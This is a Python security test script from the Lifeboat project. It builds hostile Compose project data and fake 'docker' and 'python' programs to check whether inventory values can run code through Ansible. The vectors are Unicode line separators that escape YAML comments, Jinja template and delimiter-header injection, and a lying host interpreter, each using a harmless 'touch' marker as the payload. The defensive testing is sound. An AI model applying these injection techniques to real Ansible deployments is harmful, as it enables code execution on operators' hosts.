#!/usr/bin/env python3
# Copyright: Lifeboat contributors
# GNU General Public License v3.0 or later (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later
"""The attack: who writes a Compose project, or holds the whole host, runs code where the operator runs Ansible.

It uses files and command lines only. The operator has an inventory written of a running project, puts it where
host_vars are and runs any playbook with it. `project`: a variable of the project has line breaks that YAML knows and
JSON does not escape (U+2028, U+2029, U+0085), which end a comment. `template`: Jinja's delimiters, and the header that
changes them. `host`: the host's Python is a program that answers what it likes to every module.

Usage: hostile_inventory.py product|unprotected project|template|host DIRECTORY

product: the playbook lifeboat.dr.init. unprotected: the host writes the file, its values as JSON.
Exit 0: code ran here.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import ended

ROOT = Path(__file__).parents[2]
SEPARATORS = ("\u2028", "\u2029", "\x85")


def hostile(way: str, mark: Path) -> tuple[str, ...]:
    """Names, for the bucket, the user and the volume of the project."""
    call = f"lookup('ansible.builtin.pipe', 'touch {mark}')"
    if way == "template":
        header = "#jinja2: variable_start_string:'[[', variable_end_string:']]'"
        return (f"{{{{ {call} }}}}", f"{header}\n[[ {call} ]]", f"{{% if {call} %}}{{% endif %}}")
    return tuple(f'x{text}lifeboat_stack: "{{{{ {call} }}}}"{text}#' for text in SEPARATORS)


def project(names: tuple[str, ...]) -> dict[str, object]:
    bucket, user, volume = names
    return {
        "name": "shop",
        "services": {
            "db": {"image": "postgres:17", "environment": {"POSTGRES_USER": user, "POSTGRES_DB": "no"}},
            "web": {
                "image": "web", "environment": {"S3_BUCKET": bucket}, "depends_on": {"db": {}},
                "volumes": [{"type": "volume", "source": volume, "target": volume}],
            },
            "minio": {"image": "minio/minio"},
        },
    }  # fmt: skip


def unprotected(found: dict[str, object]) -> str:
    """As a script does it that knows JSON to be YAML."""
    services = found["services"]
    assert isinstance(services, dict)
    value = {"user": services["db"]["environment"]["POSTGRES_USER"]}
    lines = ["---", f"lifeboat_database: {json.dumps(value, ensure_ascii=False)}", "# Complete these:"]
    bucket = services["web"]["environment"]["S3_BUCKET"]
    return "\n".join([*lines, f"# lifeboat_objects: {json.dumps({'bucket': bucket}, ensure_ascii=False)}", ""])


def tool(path: Path, *answers: tuple[str, object]) -> None:
    """A program that answers by what is in its arguments."""
    lines = [f"if {word!r} in line: print({json.dumps(answer)!r}); sys.exit(0)" for word, answer in answers]
    path.write_text("\n".join([f"#!{sys.executable}", "import sys", "line = ' '.join(sys.argv)", *lines, ""]))
    path.chmod(0o755)


def run(words: list[str], environment: dict[str, str]) -> str:
    done = subprocess.run(words, check=False, capture_output=True, text=True, env=environment)
    print(done.stdout, done.stderr, file=sys.stderr)
    return done.stdout


def main() -> int:
    target, way, directory = sys.argv[1], sys.argv[2], Path(sys.argv[3]).resolve()
    mark, written, tools = directory / "mark", directory / "host_vars/shop1.yml", directory / "bin"
    for made in (tools, written.parent, directory / "project"):
        made.mkdir()
    (directory / "project/compose.yml").write_text("services: {}\n")
    found = project(hostile(way, mark))
    listed = [{"Name": "shop", "ConfigFiles": str(directory / "project/compose.yml")}]
    tool(tools / "docker", ("compose ls", listed), ("config", found))
    text = "---\n" + hostile("project", mark)[0].split("\u2028")[1] + "\n"
    answer = {
        "changed": False, "text": text, "stack": "shop", "unclear": [text, f"x\u2028{text}"], "wanted": [],
        "variables": {"lifeboat_stack": f"{{{{ lookup('ansible.builtin.pipe', 'touch {mark}') }}}}",
                      "ansible_connection": "local"},
        "later": {f"x\n{text}": {"a": 1}},
    }  # fmt: skip
    tool(tools / "python", ("", answer))
    inventory = directory / "hosts"
    interpreter = tools / "python" if way == "host" else sys.executable
    inventory.write_text(
        f"shop1 ansible_connection=local ansible_become=false ansible_python_interpreter={interpreter}\n"
    )
    environment = {
        **os.environ, "PATH": f"{tools}:{os.environ['PATH']}", "ANSIBLE_CONFIG": str(ROOT / "ansible.cfg"),
        "ANSIBLE_COLLECTIONS_PATH": str(ROOT / ".ansible/collections"), "ANSIBLE_STDOUT_CALLBACK": "default",
    }  # fmt: skip
    if target == "unprotected":
        written.write_text(text if way == "host" else unprotected(found), encoding="utf-8")
    else:
        words = ["ansible-playbook", "-i", str(inventory), "lifeboat.dr.init", "-e", "target=shop1"]
        said = run([*words, "-e", f"stack_file={written}"], environment)
        if mark.exists():
            return 0
        if way == "host" and not written.exists() and "No file was written" in said:
            return 1
        if not written.exists():
            raise SystemExit("no inventory was written, which proves nothing")
    print(written.read_text(encoding="utf-8"), file=sys.stderr)
    everything = "{{ hostvars[inventory_hostname] | dict2items | selectattr('key', 'match', 'lifeboat_') | to_json }}"
    inventory.write_text("shop1 ansible_connection=local\n")
    said = run(["ansible", "-i", str(inventory), "shop1", "-m", "debug", "-a", f"msg={everything}"], environment)
    if "lifeboat_" not in said and not mark.exists():
        raise SystemExit("the inventory was not read, which proves nothing")
    return 0 if mark.exists() else 1


if __name__ == "__main__":
    ended.end(main)
